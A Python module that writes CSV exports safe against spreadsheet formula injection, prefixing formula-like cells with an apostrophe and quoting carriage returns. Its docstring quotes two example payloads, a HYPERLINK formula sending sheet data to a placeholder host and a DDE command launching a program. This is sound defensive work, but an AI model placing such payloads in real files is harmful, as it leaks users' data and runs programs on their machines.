"""Formula-safe CSV: the one writer of every CSV table territory_desk produces (exports, ``stats``,
``compare``, ``optimize --moves-csv``, ``assign -o``, ``kpis``, ``review``, ``match-reps``, import reports).

Names in our tables come from clients' files (territory, rep and account names, CRM columns). A
spreadsheet that opens a CSV evaluates a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return before one) as a formula: ``=HYPERLINK("http://x/?"&A1)`` leaks the
sheet, ``=cmd|' /C calc'!A0`` starts a program through DDE. Following OWASP's CSV-injection
guidance such a cell is written with a leading apostrophe (``'=HYPERLINK(...)``), which every
spreadsheet shows as text.

The rule, cell by cell:

* numbers we write as numbers (int, float, numpy numbers, bool) are written as they are:
  ``-12.5`` from a float column stays the number ``-12.5``;
* text beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets the apostrophe,
  except text that is a plain negative decimal number (``-12.5``, ``-71.0589``, ``-3e-4``): a
  spreadsheet reads that as exactly this number, no formula can hide in it, and CRM files (read as
  text) carry one in every longitude column. ``+1`` and ``-1+2`` are formulas and get the apostrophe;
* ``raw=True`` (the CLI's ``--raw-csv``) writes every cell as it is, for data pipelines that read the
  file with a CSV parser rather than a spreadsheet.

Headers are cells too (they may be a CRM file's column names). ``safe_frame`` does the same on a
pandas frame, vectorised over its text columns (``assign -o`` writes a million rows).

One more guard, in raw mode too: Python's csv module quotes a cell holding a carriage return only
when the line terminator contains one, so with ``"\n"`` line ends a cell ``"x\r=1"`` would be
written bare and a spreadsheet would start a new row at the CR, with ``=1`` as a formula. Rows (or,
for frames, files) with such a cell are written with their text quoted.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import TextIO

import numpy as np

from territory_desk.io.output_files import replaced_when_written

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
_PLAIN_NEGATIVE = re.compile(r"-(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")


def safe_cell(value, raw: bool = False):
    """``value`` as a CSV cell: None -> "", numbers unchanged, formula-like text with an apostrophe."""
    if value is None:
        return ""
    if raw or not isinstance(value, str):
        return value
    if value.startswith(FORMULA_START) and not _PLAIN_NEGATIVE.fullmatch(value):
        return PREFIX + value
    return value


def safe_row(row: Iterable, raw: bool = False) -> list:
    return [safe_cell(v, raw) for v in row]


class SafeWriter:
    """``csv.writer`` whose rows go through ``safe_cell`` (same dialect keywords)."""

    def __init__(self, out: TextIO, raw: bool = False, **fmt):
        self._w = csv.writer(out, **fmt)
        self._bare_cr = "\r" not in self._w.dialect.lineterminator  # csv would not quote a CR
        self._quoted = csv.writer(out, **{**fmt, "quoting": csv.QUOTE_ALL}) if self._bare_cr else None
        self.raw = raw

    def writerow(self, row: Iterable) -> None:
        cells = safe_row(row, self.raw)
        if self._bare_cr and any(isinstance(c, str) and "\r" in c for c in cells):
            self._quoted.writerow(cells)
        else:
            self._w.writerow(cells)

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, raw: bool = False, **fmt) -> SafeWriter:
    return SafeWriter(out, raw, **fmt)


def csv_text(rows: Iterable[Iterable], raw: bool = False, **fmt) -> str:
    """The rows (header first) as CSV text."""
    buf = io.StringIO()
    writer(buf, raw, **fmt).writerows(rows)
    return buf.getvalue()


def write_csv_file(path: str, rows: Iterable[Iterable], raw: bool = False, **fmt) -> None:
    """UTF-8 CSV at ``path`` (rows, header first), whole or not at all."""
    with replaced_when_written(path) as tmp, open(tmp, "w", newline="", encoding="utf-8") as fh:
        writer(fh, raw, **fmt).writerows(rows)


# ---- pandas ------------------------------------------------------------------------------------------
def _joined_text(s) -> str | None:
    """The column's text cells joined by NULs, with a NUL first (None: no text column). One C-level
    search of it tells whether any cell may begin with a trigger or holds a CR (a NUL inside a cell
    can only cause a needless exact check), so a clean column of a million cells costs ~30 ms."""
    if getattr(s.dtype, "kind", "O") != "O":  # object, str and categorical columns hold text
        return None  # numbers, dates, booleans: never formulas
    values = s.tolist()
    try:
        return "\0" + "\0".join(values)
    except TypeError:  # missing values or non-text cells among the text
        return "\0" + "\0".join(v if isinstance(v, str) else "" for v in values)


_CELL_START = re.compile("\0[-=+@\t\r]")  # a cell of a joined column beginning with a trigger


def _may_start_formula(joined: str) -> bool:
    return _CELL_START.search(joined) is not None


def safe_series(s, joined: str | None = None):
    """A column with ``safe_cell`` applied to its text cells (vectorised; other cells unchanged).
    Returns ``s`` itself when nothing needs the apostrophe."""
    joined = _joined_text(s) if joined is None else joined
    if joined is None or not _may_start_formula(joined):
        return s
    hit = s.str.startswith(FORMULA_START, na=False).to_numpy(dtype=bool)
    where = np.flatnonzero(hit)
    numbers = s.iloc[where].str.fullmatch(_PLAIN_NEGATIVE.pattern, na=True).to_numpy(dtype=bool)
    where = where[~numbers]
    if len(where) == 0:
        return s
    out = s.astype(object)  # a copy
    out.iloc[where] = [PREFIX + v for v in out.iloc[where].tolist()]
    return out


def _neutralised(frame, raw: bool):
    """(the frame with formula-safe text and column names unless ``raw``, whether a cell holds a CR)."""
    out, cr = None, any(isinstance(c, str) and "\r" in c for c in frame.columns)
    for i in range(frame.shape[1]):
        col = frame.iloc[:, i]
        joined = _joined_text(col)
        if joined is None:
            continue
        cr = cr or "\r" in joined
        fixed = col if raw else safe_series(col, joined)
        if fixed is not col:
            out = frame.copy(deep=False) if out is None else out
            out.isetitem(i, fixed)
    names = list(frame.columns) if raw else [safe_cell(c) for c in frame.columns]
    if any(a is not b for a, b in zip(names, frame.columns)):
        out = frame.copy(deep=False) if out is None else out
        out.columns = names
    return (frame if out is None else out), cr


def safe_frame(frame, raw: bool = False):
    """A frame whose text columns and column names are formula-safe (``frame`` itself is not changed)."""
    return frame if raw else _neutralised(frame, raw)[0]


def write_frame(frame, out: TextIO, raw: bool = False) -> None:
    """``frame`` as CSV (header, no index, "\\n" line ends) with formula-safe text; text is quoted
    throughout when a cell holds a carriage return (see the module docstring)."""
    frame, cr = _neutralised(frame, raw)
    frame.to_csv(out, index=False, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC if cr else csv.QUOTE_MINIMAL)
